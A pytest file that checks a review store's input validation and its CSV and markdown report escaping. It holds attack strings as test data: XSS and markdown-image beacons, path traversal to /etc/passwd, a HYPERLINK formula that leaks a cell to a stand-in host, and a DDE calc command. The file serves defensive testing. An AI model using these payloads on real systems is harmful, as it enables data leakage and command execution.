"""The review store checks what reaches it: catalogue countries, text where text belongs, plain https sources.

And its report, as CSV, never holds a cell a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from advisor.errors import BadInputError
from advisor.review.access import Reviewer
from advisor.review.queue import report, report_csv, report_markdown
from advisor.review.store import ReviewStore, check_source_url

EVERYWHERE = Reviewer("somchai", frozenset({"TH", "VN", "ASEAN"}))


@pytest.fixture
def store(tmp_path: Path) -> ReviewStore:
    return ReviewStore.in_data_dir(tmp_path)


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/![x](http://127.0.0.1:9/x.png)",
        "https://example.org/report) ![x](http://127.0.0.1:9/x.png",
        "https://example.org/<img src=x>",
        'https://example.org/"onmouseover="alert(1)',
        "https://example.org/a b",
        "https://example.org/a\tb",
        "https://example.org/[x]",
        "https://example.org/x'y",
        "https://trusted.example.org@127.0.0.1/x.png",
        "https://127.0.0.1:9/x.png",
        "https://localhost/x",
        "http://example.org/page",
        "javascript:alert(1)",
        "data:image/png;base64,AAAA",
        "https://example.org/" + "a" * 500,
    ],
)
def test_a_correction_source_must_be_a_plain_https_url(store: ReviewStore, url: str) -> None:
    with pytest.raises(BadInputError, match="well-formed https"):
        store.propose(EVERYWHERE, "TH", "fact", "th-x", "new text", url, "v1")
    assert store.history("TH") == []


@pytest.mark.parametrize(
    "url",
    [
        "https://www.nso.go.th/nsoweb/nso/statistics_and_indicators?impt_branch=300",
        "https://www.dga.or.th/wp-content/uploads/2023/09/report.pdf#page=4",
        "https://th.wikipedia.org/wiki/%E0%B8%81",
        "https://example.org:8443/a-b_c~d;e=f&g+h,i",
    ],
)
def test_ordinary_sources_are_accepted(url: str) -> None:
    check_source_url(url)


@pytest.mark.parametrize(
    ("country", "text", "message"),
    [
        ("FR", "reason", "unknown country 'FR'"),
        ("../../etc/passwd", "reason", "unknown country"),
        (["TH"], "reason", "unknown country"),
        (None, "reason", "unknown country"),
        ("TH", 5, "the text must be text, not int"),
        ("TH", {"a": 1}, "the text must be text, not dict"),
    ],
)
def test_records_with_a_bad_country_or_non_text_are_refused(
    store: ReviewStore, country: object, text: object, message: str
) -> None:
    with pytest.raises(BadInputError, match=message):
        store.record(EVERYWHERE, country, "question:q1", "flag", "v1", text)  # type: ignore[arg-type]
    assert store.history("TH") == []


@pytest.mark.parametrize("method", ["history", "proposals", "statuses"])
def test_reading_a_country_outside_the_catalogue_is_refused(store: ReviewStore, method: str) -> None:
    with pytest.raises(BadInputError, match="unknown country"):
        getattr(store, method)(["TH"])


def test_texts_lose_control_characters_and_lone_surrogates(store: ReviewStore) -> None:
    store.record(EVERYWHERE, "TH", "question:q1", "flag", "v1", "wrong\x00 agency\ud800\r\nsee page 4")
    assert store.history("TH")[0].text == "wrong agency\nsee page 4"


def test_a_data_folder_under_a_file_is_bad_input(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("not a folder")
    with pytest.raises(BadInputError, match="cannot be used as a folder"):
        ReviewStore.in_data_dir(tmp_path / "file")


def test_the_report_neutralises_formulas_and_escapes_markdown(store: ReviewStore, shipped_knowledge) -> None:
    hyperlink = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'
    store.record(EVERYWHERE, "TH", "question:q1", "flag", "v1", hyperlink)
    store.record(EVERYWHERE, "TH", "question:q2", "flag", "v1", "@SUM(A1:A9) -2+3")
    store.propose(EVERYWHERE, "TH", "fact", "th-x", "+cmd|' /C calc'!A0", "https://example.org/a", "v1")
    store.record(
        Reviewer("-reviewer", frozenset({"TH"})), "TH", "question:q3", "flag", "v1", "![x](http://127.0.0.1:9/x.png)"
    )
    data = report(shipped_knowledge, store, "TH")
    text = report_csv(data)
    rows = list(csv.reader(io.StringIO(text)))
    assert ["flag", "question:q1", "'" + hyperlink, "somchai"] in [row[:4] for row in rows]
    cells = [cell for row in rows for cell in row]
    assert "'@SUM(A1:A9) -2+3" in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert "'-reviewer" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    markdown = report_markdown(data)
    assert "![x](http://127.0.0.1:9/x.png)" not in markdown
    assert "\\!\\[x\\]" in markdown
